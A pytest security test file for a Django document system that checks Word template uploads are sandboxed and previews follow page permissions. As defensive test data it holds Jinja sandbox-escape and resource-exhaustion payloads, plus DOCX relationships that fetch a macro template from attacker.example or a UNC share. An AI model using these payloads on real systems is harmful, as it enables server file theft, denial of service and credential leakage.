"""Word templates run in a sandbox (issue 16, item 1), belong to a unit, and document previews
say no more than the page they come from (item 2).

The attack: a coordinator uploaded a template whose Jinja reached the docxtpl object behind
`body` (`body.tpl.replace_zipname(...)`, `body.tpl.save(...)`) and read the server's files into
a previewed DOCX, or wrote files, during the upload check alone; a template with nested loops
held a worker for 30 s; a ward officer read the live ranking through the ranking
announcement's preview while the round was being appraised."""

import contextlib
import io
import uuid
import zipfile
from pathlib import Path

import docx as python_docx
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from cchc.assessments.models import Round
from cchc.assessments.services import round_advance
from cchc.core.testing import PERSONAS, BaseTestCase
from cchc.documents import docx, sandbox, services
from cchc.documents.content import sample_document
from cchc.documents.models import DocumentTemplate
from cchc.documents.tests.scenes import concluded_inspection, published_round

pytestmark = pytest.mark.security


def tiny_docx(*lines: str) -> bytes:
    document = python_docx.Document()
    for line in lines:
        document.add_paragraph(line)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def everything_in(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def with_relationship(data: bytes, part: str, kind: str, target: str) -> bytes:
    """The DOCX with one more relationship in `part` (created if absent), External."""
    relationship = (
        f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="External"/>'
    )
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == part:
                content = content.replace(
                    b"</Relationships>", relationship.encode() + b"</Relationships>"
                )
            archive.writestr(item, content)
        if part not in source.namelist():
            archive.writestr(
                part,
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{relationship}</Relationships>',
            )
    return output.getvalue()


def _rewrite(data: bytes, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            archive.writestr(item, change(item.filename, source.read(item.filename)))
    return output.getvalue()


def _replace_in(data: bytes, old: bytes, new: str) -> bytes:
    return _rewrite(
        data,
        lambda name, content: (
            content.replace(old, f'"{new}"'.encode()) if name.endswith(".rels") else content
        ),
    )


def _utf16_rels(data: bytes, part: str) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        text = content.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return text.encode("utf-16")

    return _rewrite(data, change)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"SECRET-{uuid.uuid4().hex}")
    return path


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


# --- the sandbox: plain data only ----------------------------------------------------------


def test_a_template_cannot_read_a_file_into_the_document(secret):
    """The attack as found: body.tpl.replace_zipname put a server file into the DOCX."""
    text = f"{{{{ body.tpl.replace_zipname('word/document.xml', '{secret}') }}}}"
    template = tiny_docx("{{p body }}", text)
    with pytest.raises(docx.TemplateError):
        docx.validate_template(template)
    try:
        rendered = docx.render_docx(template, sample_document())
    except docx.TemplateError:
        return
    assert secret.read_bytes() not in everything_in(rendered)


def test_a_template_cannot_write_a_file(tmp_path):
    target = tmp_path / "written.docx"
    template = tiny_docx("{{p body }}", f"{{{{ body.tpl.save('{target}') }}}}")
    with pytest.raises(docx.TemplateError):
        docx.validate_template(template)
    with contextlib.suppress(docx.TemplateError):
        docx.render_docx(template, sample_document())
    assert not target.exists()


@pytest.mark.parametrize(
    "text",
    [
        "{{ body.tpl }}",
        "{{ body.subdocx }}",
        "{{ bases.__class__.__mro__ }}",
        "{{ bases.append('x') }}",
        "{{ recipients.pop() }}",
        "{% for basis in bases %}{{ loop.__class__ }}{% endfor %}",
        "{% macro m() %}x{% endmacro %}{{ m.__call__ }}",
        "{{ range.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ subject.format.__self__ }}",
    ],
)
def test_a_template_reaches_nothing_but_plain_data(text):
    with pytest.raises(docx.TemplateError) as refused:
        docx.validate_template(tiny_docx(text))
    message = refused.value.messages[0]
    assert message.startswith("The template could not be filled with a sample document: it ")
    assert "reaches for something other" in message or "which the document's data" in message


def test_the_refusal_names_what_the_template_reached_for_in_vietnamese():
    with translation.override("vi"), pytest.raises(docx.TemplateError) as refused:
        docx.validate_template(tiny_docx("{{ body.tpl.docx }}"))
    assert "“tpl”" in refused.value.messages[0]
    assert "dữ liệu của văn bản không có" in refused.value.messages[0]


def test_plain_data_still_works_as_templates_use_it():
    template = tiny_docx(
        "{{ doc_type|upper }} {{ subject[:10] }} {{ bases|length }}",
        "{% for line in recipients %}{{ loop.index }}. {{ line }}{% endfor %}",
        "{% set ns = namespace(n=0) %}{% for b in blocks %}{% set ns.n = ns.n + 1 %}{% endfor %}"
        "{{ ns.n }} {{ blocks[0]['text'] }} {{ '%02d'|format(number) }}",
        "{{p body }}",
    )
    docx.validate_template(template)
    text = everything_in(docx.render_docx(template, sample_document())).decode(errors="ignore")
    assert "THÔNG BÁO" in text and "1. UBND Phường Trần Phú;" in text
    assert "5 I. KẾT QUẢ KIỂM TRA 05" in text
    assert "Niêm yết thủ tục hành chính" in text  # the body's table, rendered before


# --- the sandbox: bounded work -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (
            "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
            "it repeats more than 200.000 times",
        ),
        (
            "{% macro f(n) %}{% if n < 40 %}{{ f(n + 1) }}{{ f(n + 1) }}{% endif %}{% endmacro %}"
            "{{ f(0) }}",
            "it repeats more than 200.000 times",
        ),
        ("{% for x in bases recursive %}{{ loop(bases) }}{% endfor %}", "recursive loops"),
        ("{{ (range(100000)|list) * 10000 }}", "it repeats a text or a list too many times"),
        ("{{ 'x' * 1000 * 1000 * 1000 }}", "it repeats a text or a list too many times"),
    ],
    ids=["nested-loops", "macro-fan-out", "recursive-loop", "list-repeat", "text-repeat"],
)
def test_a_template_that_works_too_hard_is_stopped(text, reason):
    with pytest.raises(docx.TemplateError) as refused:
        docx.validate_template(tiny_docx(text))
    assert reason in refused.value.messages[0]


def test_a_template_that_eats_memory_is_stopped_in_its_own_process():
    """Doubling a text 40 times (10 TB) is not a loop the counter would stop: the rendering
    process's memory limit does, and the application's process is untouched."""
    text = (
        "{% set ns = namespace(s='xxxxxxxxxx') %}"
        "{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}"
    )
    with pytest.raises(docx.TemplateError) as refused:
        docx.validate_template(tiny_docx(text))
    # The memory limit stops it; on a machine too busy to reach it within the time limit, the
    # time limit does (seen once with two suites running side by side): stopped either way.
    reason = refused.value.messages[0]
    assert "more memory than a document may use" in reason or "more than 10 seconds" in reason
    with pytest.raises(docx.TemplateError):
        docx.render_docx(tiny_docx(text), sample_document())


def test_an_uploaded_template_renders_in_another_process_and_a_shipped_one_does_not(
    monkeypatch,
):
    calls = []
    real = sandbox.run_isolated

    def spy(function, *args):
        calls.append(function.__name__)
        return real(function, *args)

    monkeypatch.setattr(sandbox, "run_isolated", spy)
    docx.render_docx(docx.default_template("conclusion_notice"), sample_document())
    assert calls == []
    docx.render_docx(tiny_docx("{{ subject }}", "{{p body }}"), sample_document())
    assert calls == ["render_plain"]


# --- uploads: the page, the scope ----------------------------------------------------------


class TemplateUploadTests(BaseTestCase):
    def upload(self, persona: str, data: bytes, **extra: str):
        self.login(persona)
        url = reverse("documents:template_upload", args=["conclusion_notice"])
        return self.client.post(
            url, {"file": SimpleUploadedFile("mau.docx", data), **extra}, follow=True
        )

    def test_a_hostile_template_is_refused_at_upload_and_nothing_is_kept(self):
        response = self.upload("home_affairs", tiny_docx("{{ body.tpl.docx }}", "{{p body }}"))
        assert response.status_code == 200
        assert DocumentTemplate.objects.count() == 0
        assert "mẫu" in response.content.decode().lower()

    def test_a_template_or_evidence_that_fetches_a_file_when_opened_is_refused(self):
        # An attacker's walk: a template whose settings attach a macro template from another
        # server (or a UNC path, handing over the reader's Windows sign-in) was accepted, and
        # every document made from it carried the link; so was the same file as evidence.
        hostile = with_relationship(
            tiny_docx("Thông báo"),
            "word/_rels/settings.xml.rels",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
            "http://attacker.example/macro.dotm",
        )
        response = self.upload("home_affairs", hostile)
        assert DocumentTemplate.objects.count() == 0
        assert "tải một tệp từ nơi khác" in response.content.decode()
        from cchc.core.zipcheck import fetches_external

        assert fetches_external(io.BytesIO(hostile))
        unc = with_relationship(
            tiny_docx("x"),
            "word/_rels/document.xml.rels",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
            "file://///attacker/share/x.png",
        )
        assert fetches_external(io.BytesIO(unc))
        # A hyperlink opens only when clicked: kept.
        link = with_relationship(
            tiny_docx("x"),
            "word/_rels/document.xml.rels",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
            "https://dichvucong.gov.vn/",
        )
        assert not fetches_external(io.BytesIO(link))
        # A review's escapes: a character reference, a ">" in the address, a UTF-16 part.
        attached = (
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        )
        for target, mode in (
            ("http://attacker.example/m.dotm", "&#69;xternal"),
            ("http://attacker.example/m.dotm?a=>", "External"),
        ):
            crafted = with_relationship(
                tiny_docx("x"), "word/_rels/settings.xml.rels", attached, target
            )
            crafted = crafted if mode == "External" else _replace_in(crafted, b'"External"', mode)
            assert fetches_external(io.BytesIO(crafted)), (target, mode)
        utf16 = _utf16_rels(hostile, "word/_rels/settings.xml.rels")
        assert fetches_external(io.BytesIO(utf16))
        # A template on the author's own disk, as Word writes it for any document made from
        # one: kept.
        local = with_relationship(
            tiny_docx("x"), "word/_rels/settings.xml.rels", attached, "file:///C:/Users/a/Mau.dotx"
        )
        assert not fetches_external(io.BytesIO(local))
        from cchc.assessments.services.evidence import _check_office

        with pytest.raises(ValidationError):
            _check_office(SimpleUploadedFile("x.docx", hostile), "docx")
        _check_office(SimpleUploadedFile("y.docx", link), "docx")

    def test_the_register_says_which_names_a_template_may_use(self):
        self.login("home_affairs")
        page = self.client.get(reverse("documents:register")).content.decode()
        assert 'data-testid="template-fields"' in page
        for name in ("subject", "signer_name", "recipients", "body"):
            assert f"<code>{name}</code>" in page

    def test_a_template_belongs_to_the_unit_of_who_uploaded_it(self):
        good = docx.default_template("conclusion_notice")
        self.upload("home_affairs", good)
        city_template = DocumentTemplate.objects.get()
        assert city_template.org_unit == self.cast.city
        self.upload("admin", tiny_docx("TỈNH {{ subject }}", "{{p body }}"))
        province_template = DocumentTemplate.objects.exclude(pk=city_template.pk).get()
        assert province_template.org_unit == self.cast.province
        # The nearest unit's template wins; the province's applies where the city has none.
        assert services.template_in_use("conclusion_notice", self.cast.ward_a) == city_template
        assert services.template_in_use("conclusion_notice", self.cast.city) == city_template
        assert services.template_in_use("conclusion_notice", self.cast.province) == (
            province_template
        )
        assert services.template_in_use("conclusion_notice", self.cast.other_province) is None
        # A new version at the city leaves the province's in use.
        self.upload("home_affairs", good)
        province_template.refresh_from_db()
        assert province_template.is_active

    def test_a_city_coordinator_cannot_change_the_provinces_templates(self):
        response = self.upload(
            "home_affairs",
            docx.default_template("conclusion_notice"),
            unit=str(self.cast.province.pk),
        )
        assert response.status_code == 403
        assert DocumentTemplate.objects.count() == 0
        self.login("home_affairs")
        download = self.client.get(
            reverse("documents:template_download", args=["conclusion_notice"]),
            {"unit": self.cast.province.pk},
        )
        assert download.status_code == 403

    def test_documents_are_issued_through_the_issuers_template(self):
        self.upload("home_affairs", tiny_docx("MẪU CỦA THÀNH PHỐ {{ subject }}", "{{p body }}"))
        inspection = concluded_inspection(self.cast)
        issued = services.issue(
            actor=None, kind="conclusion_notice", target=inspection, signer_name="A"
        )
        assert issued.template == DocumentTemplate.objects.get()
        with issued.docx.open("rb") as handle:
            assert "MẪU CỦA THÀNH PHỐ".encode() in everything_in(handle.read())


# --- previews follow the page they come from -----------------------------------------------

PREVIEWS = ("documents:preview", "documents:preview_raw", "documents:draft_docx")


class PreviewScopeTests(BaseTestCase):
    """Every kind × the stages it passes × every persona: a preview (page, raw, Word draft)
    answers as the page its record is read on."""

    def statuses(self, url_name: str, kwargs: dict) -> dict[str, int]:
        result = {}
        for persona in PERSONAS:
            self.client.logout()
            self.login(persona)
            result[persona] = self.client.get(reverse(url_name, kwargs=kwargs)).status_code
        return result

    def assert_previews_follow(self, kind: str, pk: int, page: str, page_kwargs: dict) -> None:
        expected = self.statuses(page, page_kwargs)
        for preview in PREVIEWS:
            got = self.statuses(preview, {"kind": kind, "pk": pk})
            assert got == expected, f"{kind} {preview}: {got} != page {page} {expected}"

    def test_the_ranking_announcement_follows_the_results_page_at_every_stage(self):
        round_ = published_round(self.cast)
        # The same round seen before publication: walk a second one through the stages.
        from cchc.assessments.models import Score
        from cchc.assessments.services import assessment_submit, score_appraise
        from cchc.assessments.tests.factories import assessment_of, make_round
        from cchc.assessments.tests.test_workflow import fill
        from cchc.frameworks.models import Criterion

        second = make_round(self.cast, name="Đợt hai")
        stages = []
        assessment = assessment_of(second, self.cast.ward_a)
        fill(assessment, self.cast.ward_officer)
        stages.append(Round.Status(second.status))
        self.assert_previews_follow(
            "ranking_announcement", second.pk, "assessments:results", {"pk": second.pk}
        )
        assessment_submit(actor=self.cast.ward_chair, assessment=assessment)
        second = round_advance(actor=self.cast.home_affairs, round_=second)
        stages.append(Round.Status(second.status))
        ward_officer_saw = self.statuses(
            "documents:preview_raw", {"kind": "ranking_announcement", "pk": second.pk}
        )["ward_officer"]
        assert ward_officer_saw == 403  # the attack: the live ranking during appraisal
        self.assert_previews_follow(
            "ranking_announcement", second.pk, "assessments:results", {"pk": second.pk}
        )
        for criterion in Criterion.objects.filter(
            framework=second.framework, children__isnull=True
        ):
            score = Score.objects.get(assessment=assessment, criterion=criterion)
            score_appraise(
                actor=self.cast.home_affairs,
                assessment=assessment,
                criterion=criterion,
                points=score.self_points or 0,
                reason="",
            )
        second = round_advance(actor=self.cast.home_affairs, round_=second)
        stages.append(Round.Status(second.status))
        self.assert_previews_follow(
            "ranking_announcement", second.pk, "assessments:results", {"pk": second.pk}
        )
        self.assert_previews_follow(
            "ranking_announcement", round_.pk, "assessments:results", {"pk": round_.pk}
        )
        assert len(set(stages)) == 3

    def test_inspection_and_plan_documents_follow_their_pages(self):
        inspection = concluded_inspection(self.cast)
        for kind in ("conclusion_notice", "team_decision"):
            self.assert_previews_follow(
                kind, inspection.pk, "inspections:inspection_detail", {"pk": inspection.pk}
            )
        for kind in ("inspection_plan", "result_report"):
            self.assert_previews_follow(
                kind, inspection.plan_id, "inspections:plan_detail", {"pk": inspection.plan_id}
            )

    def test_the_self_assessment_report_follows_the_assessment_page(self):
        round_ = published_round(self.cast)
        assessment = round_.assessments.get(org_unit=self.cast.ward_a)
        self.assert_previews_follow(
            "self_assessment_report",
            assessment.pk,
            "assessments:assessment_detail",
            {"pk": assessment.pk},
        )
